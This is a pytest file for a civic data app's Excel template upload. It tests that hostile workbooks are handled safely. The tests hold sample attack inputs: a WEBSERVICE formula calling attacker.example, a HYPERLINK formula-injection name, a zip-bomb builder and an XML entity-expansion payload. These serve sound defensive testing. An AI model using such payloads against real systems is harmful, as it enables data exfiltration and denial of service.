"""The Excel template: a steward's grid as a workbook that loads back with no mapping step,
and a workbook treated as hostile all the same (bounds, no formula run, no zip bomb)."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from civicloop.core.tests.people import login
from civicloop.measure import entry, limits
from civicloop.measure.loads import LoadError, load_file
from civicloop.measure.readers import TEMPLATE_MARK, ReadError, read_table
from civicloop.results.models import Indicator, Observation

pytestmark = pytest.mark.django_db
URL = "/c/riverton/measure/enter/template.xlsx"


def seats() -> Indicator:
    return Indicator.objects.get(slug="licensed-child-care-seats")


def download(client, person, query: str = "") -> openpyxl.Workbook:
    login(client, person)
    response = client.get(URL + query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content))


def fill(book, values: dict[str, str | float], tmp_path, name="filled.xlsx"):
    """Type ``values`` (area code → value) in the headline rows; save as the steward would."""
    sheet = book["data"]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value != "licensed-child-care-seats":
            continue
        if row[3].value in (None, "") and row[1].value in values:
            row[5].value = values[row[1].value]
    path = tmp_path / name
    book.save(path)
    return path


def test_a_stewards_template_holds_its_grid_prefilled(client, carol):
    book = download(client, carol)
    sheet = book["data"]
    header = [c.value for c in sheet[1]]
    assert header[:6] == ["indicator", "area", "dimension", "group", "period", "value"]
    assert "last value" in header and "last period" in header
    every = list(sheet.iter_rows(min_row=2, values_only=True))
    # Its stewarded indicator and its own commitment's measure; nobody else's.
    mine = {i.slug for i in entry.indicators_for(carol, seats().result.collaborative)}
    assert {r[0] for r in every} == mine and "third-grade-reading" not in mine
    ind = seats()
    rows = [r for r in every if r[0] == ind.slug]
    blocks = entry.build([ind])
    assert len(rows) == len(blocks[0].cells)
    assert {r[4] for r in rows} == {blocks[0].period}
    last = {(c.area.code, c.group.slug if c.group else None): c.last for c in blocks[0].cells}
    assert any(v is not None for v in last.values())
    for r in rows:
        assert r[header.index("last value")] == last[(r[1], r[3] or None)]
    assert book["about"]["A1"].value == TEMPLATE_MARK
    assert sheet.protection.sheet and not sheet.cell(row=2, column=6).protection.locked


def test_a_filled_template_loads_with_no_mapping_step_leaving_blank_rows_out(
    client, carol, riverton, tmp_path
):
    ind = seats()
    period = entry.due(ind)[0]
    path = fill(download(client, carol), {"riverton": 31.5, "north": "28,5"}, tmp_path)
    report = load_file(path, riverton, user=carol)
    assert report.status == "applied" and report.rows_created == 2, report.problems
    got = dict(
        Observation.objects.filter(
            series__indicator=ind, period__label=period, series__group__isnull=True
        ).values_list("series__area__code", "value")
    )
    assert got == {"riverton": 31.5, "north": 28.5}


def test_the_upload_page_goes_straight_to_the_check(client, carol, tmp_path):
    path = fill(download(client, carol), {"riverton": 31.5}, tmp_path)
    page = client.post(
        "/c/riverton/loads/new/",
        {"file": SimpleUploadedFile("filled.xlsx", path.read_bytes())},
    ).content.decode()
    assert "All 1 row are sound" in page  # the check page, not the mapping form
    assert "data-entry template" in page and 'value="load"' in page


def test_a_template_problem_names_the_row_a_person_sees_in_excel(client, carol, riverton, tmp_path):
    book = download(client, carol)
    sheet = book["data"]
    sheet.cell(row=4, column=6).value = "lots"
    path = tmp_path / "bad.xlsx"
    book.save(path)
    report = load_file(path, riverton, user=carol)
    assert report.status == "rejected"
    assert [(p.row, p.column) for p in report.problems] == [(4, "value")]


def test_a_template_edited_to_name_another_stewards_indicator_is_refused(
    client, carol, riverton, tmp_path
):
    book = download(client, carol)
    sheet = book["data"]
    sheet.cell(row=2, column=1).value = "third-grade-reading"
    sheet.cell(row=2, column=5).value = "2031-32"
    sheet.cell(row=2, column=6).value = 99.9
    path = tmp_path / "edited.xlsx"
    book.save(path)
    report = load_file(path, riverton, user=carol)
    assert report.status == "rejected" and report.refused_rows == 1
    assert not Observation.objects.filter(period__label="2031-32").exists()


def test_a_formula_in_an_uploaded_template_is_never_evaluated(client, carol, riverton, tmp_path):
    """openpyxl writes a formula with no saved result; civicloop reads no result into it."""
    book = download(client, carol)
    sheet = book["data"]
    sheet.cell(row=2, column=6).value = '=WEBSERVICE("http://attacker.example/x")'
    sheet.cell(row=3, column=6).value = "=1+1"
    sheet.cell(row=4, column=6).value = 12
    path = tmp_path / "formulas.xlsx"
    book.save(path)
    table = read_table(path)
    assert table.columns["value"].to_pylist() == ["12"]  # the formula rows are unfilled
    report = load_file(path, riverton, user=carol)
    assert report.status == "applied" and report.rows_created == 1


def test_names_that_look_like_formulas_are_written_as_text(client, carol, riverton):
    area = riverton.areas.get(code="north")
    area.name = '=HYPERLINK("http://attacker.example","click")'
    area.save()
    login(client, carol)
    body = client.get(URL).content
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"HYPERLINK" in sheet_xml


def _bomb(path, megabytes: int):
    """A workbook whose one sheet unpacks to ``megabytes`` of blank XML."""
    book = openpyxl.Workbook()
    book.active.append(["indicator", "area", "period", "value"])
    book.save(path)
    with zipfile.ZipFile(path) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    padding = b" " * (megabytes * 2**20)
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"<sheetData>", b"<sheetData>" + padding, 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return path


def test_a_zip_bomb_dressed_as_a_template_is_refused_before_it_is_parsed(client, carol, tmp_path):
    bomb = _bomb(tmp_path / "template.xlsx", 80)
    assert bomb.stat().st_size < 2**20
    login(client, carol)
    response = client.post(
        "/c/riverton/loads/new/",
        {"file": SimpleUploadedFile("template.xlsx", bomb.read_bytes())},
        follow=True,
    )
    assert "zip bomb" in response.content.decode() or "expands to" in response.content.decode()


def test_a_workbook_with_too_many_rows_is_refused(riverton, tmp_path, monkeypatch):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["indicator", "area", "period", "value"])
    for i in range(12_000):
        sheet.append(["licensed-child-care-seats", "riverton", "2020", i])
    path = tmp_path / "long.xlsx"
    book.save(path)
    monkeypatch.setattr(limits, "MAX_CELLS", 20_000)
    with pytest.raises(ReadError, match="cells"):
        read_table(path)
    with pytest.raises(LoadError, match="split it"):
        load_file(path, riverton)


def test_xml_entities_in_a_workbook_are_refused(tmp_path):
    """defusedxml: a sheet declaring entities (billion laughs, external files) is not read."""
    book = openpyxl.Workbook()
    book.active.append(["indicator", "area", "period", "value"])
    path = tmp_path / "entities.xlsx"
    book.save(path)
    with zipfile.ZipFile(path) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    parts["xl/workbook.xml"] = evil + parts["xl/workbook.xml"].split(b"?>", 1)[-1]
    with zipfile.ZipFile(path, "w") as out:
        for name, data in parts.items():
            out.writestr(name, data)
    with pytest.raises(ReadError, match="not a readable Excel workbook"):
        read_table(path)


def test_a_focused_template_holds_one_indicator_and_others_are_not_found(client, carol):
    book = download(client, carol, "?indicator=licensed-child-care-seats")
    assert {r[0] for r in book["data"].iter_rows(min_row=2, values_only=True)} == {
        "licensed-child-care-seats"
    }
    assert client.get(URL + "?indicator=third-grade-reading").status_code == 404


def test_a_filled_template_loads_from_the_command_line_as_its_steward(client, carol, cli, tmp_path):
    ind = seats()
    period = entry.due(ind)[0]
    path = fill(download(client, carol), {"riverton": 33}, tmp_path)
    result = cli("load", str(path), "-c", "riverton", "--as", "carol")
    assert result.exit_code == 0, result.stdout
    obs = Observation.objects.get(
        series__indicator=ind,
        series__area__code="riverton",
        series__group=None,
        period__label=period,
    )
    assert obs.value == 33 and obs.approval == "pending"
